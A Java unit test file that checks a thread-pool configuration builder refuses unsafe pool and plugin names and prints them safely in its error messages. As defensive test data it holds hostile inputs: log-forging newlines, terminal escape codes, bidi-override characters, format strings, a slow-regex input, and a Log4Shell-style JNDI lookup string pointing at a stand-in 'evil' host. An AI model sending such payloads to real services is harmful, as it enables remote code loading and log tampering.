package dev.bobbin.api;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Names end up in thread names and log lines: what could do harm there is refused at the door. */
class HostileNamesTest {
  private static final String POOL_RULE =
      " cannot be used. Give 1 to 100 letters, digits, inner spaces or . _ - : / @ + #,"
          + " the first a letter or digit.";

  static Stream<Arguments> hostile() {
    return Stream.of(
        Arguments.of("", ""),
        Arguments.of(" ", " "),
        Arguments.of(" io", " io"),
        Arguments.of("io ", "io "),
        Arguments.of("a\nb", "a?b"),
        Arguments.of("a\r\nINFO forged", "a??INFO forged"),
        Arguments.of("a\u0085b", "a?b"),
        Arguments.of("a\u2028b\u2029c", "a?b?c"),
        Arguments.of("a\u0000b", "a?b"),
        Arguments.of("\u001b[31mred", "?[31mred"),
        Arguments.of("a\tb", "a?b"),
        Arguments.of("left\u202eright", "left?right"),
        Arguments.of("zero\u200bwidth", "zero?width"),
        Arguments.of("100%s%n", "100%s%n"),
        Arguments.of("${jndi:ldap://evil/x}", "${jndi:ldap://evil/x}"),
        Arguments.of("a{0}b", "a{0}b"),
        Arguments.of("it's", "it's"),
        Arguments.of("say \"so\"", "say \"so\""),
        Arguments.of("a\\b", "a\\b"),
        Arguments.of("a<b>", "a<b>"),
        Arguments.of("-io", "-io"));
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void builder_refusesTheNameAndPrintsItSafely_whenItIsHostile(String name, String printed) {
    var thrown = assertThrows(IllegalArgumentException.class, () -> ThreadPoolConfig.builder(name));
    assertEquals("Pool name '" + printed + "'" + POOL_RULE, thrown.getMessage());
  }

  @ParameterizedTest
  @ValueSource(ints = {101, 10_000, 1_000_000})
  void builder_refusesTheNameAndCutsIt_whenItIsTooLong(int length) {
    String name = "x".repeat(length);
    var thrown = assertThrows(IllegalArgumentException.class, () -> ThreadPoolConfig.builder(name));
    assertEquals("Pool name '" + "x".repeat(100) + "...'" + POOL_RULE, thrown.getMessage());
  }

  @Test
  void builder_namesTheParameter_whenTheNameIsNull() {
    var thrown = assertThrows(NullPointerException.class, () -> ThreadPoolConfig.builder(null));
    assertEquals("name", thrown.getMessage());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"i", "io", "IO 2", "my_pool.io-1", "a:b/c@d+e#f", "Größe", "プール", "0", "a-"})
  void builder_takesTheName_whenItIsHarmless(String name) {
    assertEquals(name, ThreadPoolConfig.builder(name).build().name());
  }

  @Test
  void builder_takesTheName_whenItHasAHundredCharacters() {
    assertEquals(100, ThreadPoolConfig.builder("x".repeat(100)).build().name().length());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"", " ", "A", "a_b", "a--b", "a-", "-a", "1a", "a b", "a\nb", "%s", "${a}", "ä"})
  void threadFactory_refusesTheName_whenItIsNotLowerKebab(String name) {
    var builder = ThreadPoolConfig.builder("io");
    var thrown = assertThrows(IllegalArgumentException.class, () -> builder.threadFactory(name));
    assertEquals(
        "Plugin name '"
            + name.replace('\n', '?')
            + "' cannot be used. Give lower-case words joined by hyphens, such as my-threads.",
        thrown.getMessage());
  }

  @ParameterizedTest
  @ValueSource(strings = {"a", "platform", "my-own-2", "a1-b2"})
  void threadFactory_takesTheName_whenItIsLowerKebab(String name) {
    assertEquals(
        name, ThreadPoolConfig.builder("io").threadFactory(name).build().threadFactory());
  }

  /** A pattern that tries every way of cutting a long name would need years for this. */
  @Test
  void threadFactory_answersAtOnce_whenTheNameIsMadeToBeSlow() {
    var builder = ThreadPoolConfig.builder("io");
    String slow = "a" + "-a".repeat(50_000) + "!";
    var thrown = assertThrows(IllegalArgumentException.class, () -> builder.threadFactory(slow));
    assertTrue(thrown.getMessage().length() < 300, thrown::getMessage);
  }
}
